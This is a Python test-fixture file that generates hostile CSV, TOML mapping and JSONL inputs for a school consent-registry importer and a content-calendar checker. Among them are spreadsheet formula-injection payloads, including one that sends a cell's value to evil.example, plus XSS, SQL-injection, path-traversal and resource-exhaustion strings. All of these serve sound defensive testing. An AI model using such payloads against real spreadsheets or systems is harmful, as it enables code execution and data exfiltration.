"""Hostile consent-registry imports (CSV and mapping files) and content-calendar JSONL lines.

A registry import with anything wrong in it must be refused as a whole, with a clear error;
one that is well-formed but odd (a formula, a name in Arabic, a BOM) may be taken in, as
data. `accept` says which of the two a correct importer may answer.
"""

from __future__ import annotations

import gzip
from dataclasses import dataclass
from functools import cache

from consent_store.csv_import import COLUMNS
from tests.hostile.texts import HOLD_TRIGGER

HEADER = ",".join(COLUMNS)
#: One good row: a pupil, social-media consent from a parent.
ROW = dict(
    zip(
        COLUMNS,
        (
            "1001",
            "Zoë de Vries",
            "pupil",
            "2014-03-01",
            "De Korre",
            "7B",
            "Zoë;Zo",
            "social_media",
            "2025-2026",
            "granted",
            "parent",
            "2025-09-01",
            "formulier 2025",
        ),
        strict=True,
    )
)


@dataclass(frozen=True, slots=True)
class HostileImport:
    """A CSV (and optional mapping) for `registry import`, and whether it may be accepted."""

    family: str
    name: str
    csv: bytes
    mapping: bytes | None = None
    #: True: well-formed, the importer may take it in as data; False: it must be refused.
    accept: bool = False


def _quote(value: str) -> str:
    if any(c in value for c in ',"\n\r'):
        return '"' + value.replace('"', '""') + '"'
    return value


def csv_text(*rows: dict[str, str], header: str = HEADER) -> str:
    """A CSV in the registry's own format: the header and `rows` (ROW with changes)."""
    lines = [header]
    for row in rows:
        lines.append(",".join(_quote(row.get(c, "")) for c in COLUMNS))
    return "\n".join(lines) + "\n"


def _row(**changes: str) -> dict[str, str]:
    return {**ROW, **changes}


def _imp(family: str, name: str, text: str, *, accept: bool = False) -> HostileImport:
    return HostileImport(family, name, text.encode("utf-8"), accept=accept)


def _structure() -> list[HostileImport]:
    good = csv_text(_row())
    out = [
        HostileImport("structure", "leeg-bestand", b""),
        HostileImport("structure", "alleen-bom", b"\xef\xbb\xbf"),
        HostileImport("structure", "alleen-regeleinde", b"\n"),
        HostileImport("structure", "lege-eerste-regel", b"\n" + good.encode()),
        _imp("structure", "alleen-kopregel", HEADER + "\n", accept=True),
        _imp("structure", "dubbele-kolom", HEADER + ",name\n" + good.split("\n", 1)[1]),
        _imp("structure", "onbekende-kolom", HEADER + ",wachtwoord\n" + good.split("\n", 1)[1]),
        _imp("structure", "nederlandse-kopregel", good.replace("person_id", "leerlingnummer", 1)),
        _imp("structure", "tab-gescheiden", good.replace(",", "\t")),
        _imp("structure", "pipe-gescheiden", good.replace(",", "|")),
        _imp("structure", "te-veel-velden", good.rstrip("\n") + ",extra,velden\n"),
        _imp("structure", "te-weinig-velden", HEADER + "\n1001,Zoë de Vries,pupil\n"),
        _imp("structure", "open-aanhalingsteken", HEADER + '\n1001,"Zoë de Vries,pupil\n'),
        _imp("structure", "aanhalingsteken-midden", HEADER + '\n10"01,Zoë,pupil\n'),
        # Line ends of old Mac spreadsheets: still well-formed CSV, so it may be taken in.
        _imp("structure", "alleen-cr", good.replace("\n", "\r"), accept=True),
        _imp("structure", "kopregel-10000-kolommen", ",".join(f"k{i}" for i in range(10_000))),
        _imp("structure", "kopregel-1-mb", "a" * 1_000_000 + "\n" + good),
        _imp("structure", "nul-in-veld", csv_text(_row(name="Zoë\x00de Vries"))),
        _imp("structure", "nul-in-kopregel", good.replace("name", "na\x00me", 1)),
        _imp("structure", "alleen-komma-s", ",,,,,,,,,,,,\n" * 3),
        _imp("structure", "binaire-ruis", "\x01\x02\x03\x04\x05" * 200),
        HostileImport("structure", "png", b"\x89PNG\r\n\x1a\n" + bytes(200)),
        HostileImport("structure", "xlsx", b"PK\x03\x04\x14\x00\x06\x00" + bytes(300)),
        HostileImport("structure", "gzip", gzip.compress(good.encode())),
    ]
    for column in ("person_id", "name", "role", "birth_date", "purpose", "decision", "evidence"):
        columns = [c for c in COLUMNS if c != column]
        rows = ",".join(_quote(ROW[c]) for c in columns)
        out.append(_imp("structure", f"zonder-kolom-{column}", ",".join(columns) + "\n" + rows))
    return out


def _values() -> list[HostileImport]:
    bad = {
        "geboortedatum-30-februari": _row(birth_date="2014-02-30"),
        "geboortedatum-nl-30-februari": _row(birth_date="30-02-2014"),
        "geboortedatum-jaar-0": _row(birth_date="0000-01-01"),
        "geboortedatum-toekomst": _row(birth_date="9999-12-31"),
        "geboortedatum-negatief": _row(birth_date="-2014-03-01"),
        "geboortedatum-tijd": _row(birth_date="2014-03-01T00:00"),
        "geboortedatum-tekst": _row(birth_date="morgen"),
        "geboortedatum-leeg": _row(birth_date=""),
        "geboortedatum-enkel-cijfer": _row(birth_date="2014-3-1"),
        "geboortedatum-groot-jaar": _row(birth_date="01-01-99999"),
        "gegeven-op-na-schooljaar": _row(given_on="2027-01-01"),
        "gegeven-op-onzin": _row(given_on="gisteren"),
        "schooljaar-twee-jaar": _row(school_year="2025-2027"),
        "schooljaar-kort": _row(school_year="25-26"),
        "schooljaar-een-jaar": _row(school_year="2025"),
        "schooljaar-drie-jaren": _row(school_year="2025-2026-2027"),
        "schooljaar-gedachtestreep": _row(school_year="2025–2026"),
        "schooljaar-groot": _row(school_year="99999-100000"),
        "rol-onbekend": _row(role="admin"),
        "rol-leeg": _row(role=""),
        "rol-met-nul": _row(role="pupil\x00"),
        "doel-onbekend": _row(purpose="everything"),
        "doel-met-spatie-midden": _row(purpose="social media"),
        "besluit-ja": _row(decision="yes"),
        "besluit-twee": _row(decision="granted;refused"),
        "door-onbekend": _row(given_by="mother"),
        "bewijs-leeg": _row(evidence=""),
        "id-leeg": _row(person_id=""),
        "id-65-tekens": _row(person_id="1" * 65),
        "naam-leeg": _row(name="   "),
        "naam-201-tekens": _row(name="a" * 201),
        "naam-100000-tekens": _row(name="a" * 100_000),
        "groep-101-tekens": _row(group="7" * 101),
        "alias-201-tekens": _row(aliases="a" * 201),
        "bewijs-200000-tekens": _row(evidence="x" * 200_000),
        "doel-zonder-besluit": _row(decision=""),
        "besluit-zonder-doel": _row(purpose=""),
    }
    out = [_imp("values", name, csv_text(row)) for name, row in bad.items()]
    odd_but_fine = {
        "naam-arabisch": _row(name="ليلى بن علي"),
        "naam-rtl-override": _row(name="\u202eseirV ed ëoZ"),
        "naam-zero-width": _row(name="Zo\u200bë de Vries"),
        "naam-html": _row(name="<script>alert(1)</script>"),
        "naam-sql": _row(name="Robert'); DROP TABLE people;--"),
        "id-pad": _row(person_id="../../etc/passwd"),
        "id-spaties-rond": _row(person_id="  1001  "),
        "rol-hoofdletters": _row(role=" PUPIL "),
        "doel-hoofdletters": _row(purpose="SOCIAL_MEDIA"),
        "geboortedatum-punten": _row(birth_date="01.03.2014"),
        "geboortedatum-arabische-cijfers": _row(birth_date="٢٠١٤-٠٣-٠١"),
        "naam-met-regeleinde": _row(name="Zoë\nde Vries"),
        "bewijs-met-regeleinden": _row(evidence="regel 1\r\nregel 2"),
        "alias-duizend": _row(aliases=";".join(f"Zo{i}" for i in range(1000))),
    }
    out += [_imp("values", name, csv_text(row), accept=True) for name, row in odd_but_fine.items()]
    return out


#: Cell values a spreadsheet runs as a formula when the export is opened.
FORMULAS = {
    "is": "=cmd|' /C calc'!A0",
    "plus": "+1+cmd|' /C calc'!A0",
    "min": "-1+cmd|' /C calc'!A0",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "tab": "\t=1+1",
    "hyperlink": '=HYPERLINK("http://evil.example/?"&A1;"klik")',
}


def _injections() -> list[HostileImport]:
    out = []
    for name, formula in FORMULAS.items():
        out.append(_imp("formula", f"naam-{name}", csv_text(_row(name=formula)), accept=True))
        out.append(_imp("formula", f"bewijs-{name}", csv_text(_row(evidence=formula)), accept=True))
    return out


def _encodings() -> list[HostileImport]:
    text = csv_text(_row())
    return [
        HostileImport("encoding", "latin1", text.encode("latin-1")),
        HostileImport(
            "encoding", "cp1252", csv_text(_row(evidence="“formulier”")).encode("cp1252")
        ),
        HostileImport("encoding", "utf16-le-bom", text.encode("utf-16")),
        HostileImport("encoding", "utf16-be-bom", b"\xfe\xff" + text.encode("utf-16-be")),
        HostileImport("encoding", "utf16-zonder-bom", text.encode("utf-16-le")),
        HostileImport("encoding", "utf32", text.encode("utf-32")),
        # UTF-7 of this row is plain ASCII (ë becomes "+AOs-"): valid UTF-8, so an importer
        # cannot tell it from a name that is written that way. Taken in as data, or refused.
        HostileImport("encoding", "utf7", text.encode("utf-7"), accept=True),
        # Shift-JIS has no ë: the row's own aliases are replaced (the name is Japanese).
        HostileImport(
            "encoding",
            "shift-jis",
            csv_text(_row(name="山田花子", aliases="Hanako")).encode("shift_jis"),
        ),
        HostileImport("encoding", "dubbele-bom", b"\xef\xbb\xbf\xef\xbb\xbf" + text.encode()),
        HostileImport("encoding", "utf8-bom", b"\xef\xbb\xbf" + text.encode(), accept=True),
        HostileImport(
            "encoding", "bom-in-veld", csv_text(_row(name="\ufeffZoë")).encode(), accept=True
        ),
        HostileImport("encoding", "ongeldig-laatste-byte", text.encode() + b"\xff"),
    ]


def _duplicates() -> list[HostileImport]:
    conflicting = csv_text(_row(), _row(name="Iemand Anders", purpose="website"))
    many = csv_text(*([_row()] * 2000))
    mixed_case = csv_text(_row(), _row(person_id="  1001", name="Zoë de Vries ", purpose="website"))
    big_bad = csv_text(*[_row(person_id=str(10_000 + i)) for i in range(3000)], _row(role="?"))
    return [
        _imp("duplicates", "zelfde-id-andere-naam", conflicting),
        _imp(
            "duplicates",
            "zelfde-id-andere-geboortedatum",
            csv_text(_row(), _row(birth_date="2013-01-01")),
        ),
        _imp("duplicates", "dubbele-kopregel", csv_text(_row()) + HEADER + "\n"),
        _imp("duplicates", "2000-keer-dezelfde-regel", many, accept=True),
        _imp("duplicates", "spaties-maken-geen-andere-persoon", mixed_case, accept=True),
        _imp("duplicates", "3000-goed-en-een-fout", big_bad),
    ]


MAPPING_CSV = (
    "Leerlingnummer;Roepnaam;Achternaam;Geboortedatum;Klas;Foto's sociale media\n"
    "5001;Sem;Dijk;01-02-2014;6A;ja\n"
)
MAPPING = """
[columns]
person_id = "Leerlingnummer"
name = ["Roepnaam", "Achternaam"]
birth_date = "Geboortedatum"
group = "Klas"

[defaults]
role = "pupil"
school_year = "2025-2026"
given_by = "parent"
evidence = "export"

[purposes]
"Foto's sociale media" = "social_media"
"""


def _mappings() -> list[HostileImport]:
    data = MAPPING_CSV.encode()

    def mapping(
        family: str, name: str, toml: bytes | str, accept: bool = False, csv: bytes = data
    ) -> HostileImport:
        raw = toml.encode() if isinstance(toml, str) else toml
        return HostileImport(family, name, csv, raw, accept)

    return [
        mapping("mapping", "goed-als-controle", MAPPING, accept=True),
        mapping("mapping", "leeg", ""),
        mapping("mapping", "geen-toml", "dit is geen toml ["),
        mapping("mapping", "ongeldige-utf8", b'[columns]\nperson_id = "\xff\xfe"\n'),
        mapping("mapping", "onbekend-doel", MAPPING.replace('"social_media"', '"alles"')),
        mapping("mapping", "kolom-bestaat-niet", MAPPING.replace("Leerlingnummer", "Nummer")),
        mapping("mapping", "verkeerde-types", "[columns]\nperson_id = 5\nname = {a = 1}\n"),
        mapping("mapping", "diep-genest", "a = " + "[" * 5000 + "]" * 5000 + "\n"),
        mapping("mapping", "diepe-tabellen", "a = " + "{b = " * 2000 + "1" + "}" * 2000 + "\n"),
        mapping("mapping", "grote-waarde", MAPPING + f'\n[x]\ny = "{"a" * 2_000_000}"\n'),
        # An answer the mapping does not know, in the school's export (not in the mapping).
        mapping(
            "mapping",
            "antwoord-onbekend",
            MAPPING,
            csv=MAPPING_CSV.replace("ja\n", "misschien\n").encode(),
        ),
        mapping("mapping", "bestand-is-png", b"\x89PNG\r\n\x1a\n" + bytes(100)),
    ]


@cache
def hostile_imports() -> tuple[HostileImport, ...]:
    """Every hostile registry import, in a fixed order."""
    return (
        *_structure(),
        *_values(),
        *_injections(),
        *_encodings(),
        *_duplicates(),
        *_mappings(),
    )


# --- content-calendar JSONL (`screening check --jsonl`) ----------------------------------


@dataclass(frozen=True, slots=True)
class HostileLine:
    """One hostile JSONL file for `screening check --jsonl` (a bad line, or bad bytes)."""

    family: str
    name: str
    data: bytes


def _line(family: str, name: str, text: str) -> HostileLine:
    return HostileLine(family, name, text.encode("utf-8", "surrogatepass"))


def _jsonl_lines() -> list[HostileLine]:
    hold = f'{{"text": "{HOLD_TRIGGER}"}}'
    deep = "[" * 100_000 + "]" * 100_000
    big_int = "9" * 5000
    lines = {
        "geen-json": "{",
        "alleen-sluithaak": "}",
        "null": "null",
        "getal": "1",
        "tekenreeks": '"Bel me op 06-12345678"',
        "lijst": "[]",
        "leeg-object": "{}",
        "tekst-getal": '{"text": 1}',
        "tekst-null": '{"text": null}',
        "tekst-lijst": '{"text": ["a"]}',
        "tekst-nan": '{"text": NaN}',
        "tekst-oneindig": '{"text": 1e999}',
        "tekst-alleen-spaties": '{"text": "   "}',
        "tekst-te-lang": '{"text": "' + "a" * 100_001 + '"}',
        "tekst-surrogaat": '{"text": "\\ud800 Bel me op 06-12345678"}',
        "fotos-tekst": '{"text": "hoi", "images": "a.jpg"}',
        "fotos-getallen": '{"text": "hoi", "images": [1, 2]}',
        "foto-bestaat-niet": '{"text": "hoi", "images": ["weg.jpg"]}',
        "foto-is-map": '{"text": "hoi", "images": ["."]}',
        "foto-leeg-pad": '{"text": "hoi", "images": [""]}',
        "foto-pad-met-nul": '{"text": "hoi", "images": ["a\\u0000.jpg"]}',
        "foto-naam-te-lang": '{"text": "hoi", "images": ["' + "a" * 5000 + '.jpg"]}',
        "foto-dev-zero": '{"text": "hoi", "images": ["/dev/zero"]}',
        "foto-etc-passwd": '{"text": "hoi", "images": ["../../../../../../etc/passwd"]}',
        "kanaal-getal": '{"text": "hoi", "channel": 1}',
        "kanaal-onbekend": '{"text": "hoi", "channel": "myspace"}',
        "kanaal-leeg": '{"text": "hoi", "channel": ""}',
        "datum-onmogelijk": '{"text": "hoi", "date": "2026-02-30"}',
        "datum-getal": '{"text": "hoi", "date": 20261207}',
        "datum-null": '{"text": "hoi", "date": null}',
        "datum-oneindig": '{"text": "hoi", "date": 1e999}',
        "onbekend-veld": '{"text": "hoi", "admin": true}',
        "dubbele-sleutel": '{"text": "hoi", "text": "Bel me op 06-12345678"}',
        "diep-genest": deep,
        "diep-genest-in-veld": '{"text": "hoi", "images": ' + deep + "}",
        "groot-getal-id": '{"id": ' + big_int + ', "text": "Bel me op 06-12345678"}',
        "groot-getal-tekst": '{"text": ' + big_int + "}",
        "id-object": '{"id": {"a": [1, 2]}, "text": "Bel me op 06-12345678"}',
        "commentaar": '{"text": "hoi" /* commentaar */}',
        "komma-op-einde": '{"text": "hoi",}',
        "enkele-aanhalingstekens": "{'text': 'hoi'}",
    }
    out = [_line("jsonl", name, line + "\n") for name, line in lines.items()]
    out += [
        HostileLine("jsonl", "leeg-bestand", b""),
        HostileLine("jsonl", "alleen-lege-regels", b"\n\n   \n\t\n"),
        HostileLine("jsonl", "ongeldige-utf8", b'{"text": "hoi \xff"}\n'),
        HostileLine("jsonl", "utf16", (hold + "\n").encode("utf-16")),
        HostileLine("jsonl", "nul-regel", b"\x00\n" + hold.encode() + b"\n"),
        HostileLine("jsonl", "bom-op-regel-2", hold.encode() + b"\n\xef\xbb\xbf" + hold.encode()),
        HostileLine("jsonl", "alleen-cr", (hold + "\r" + hold).encode()),
        HostileLine("jsonl", "binaire-ruis", bytes(range(256)) * 4),
        HostileLine("jsonl", "een-slechte-tussen-goede", f"{hold}\n{{\n{hold}\n".encode()),
    ]
    return out


@cache
def hostile_jsonl() -> tuple[HostileLine, ...]:
    """Every hostile content-calendar file, in a fixed order."""
    return tuple(_jsonl_lines())
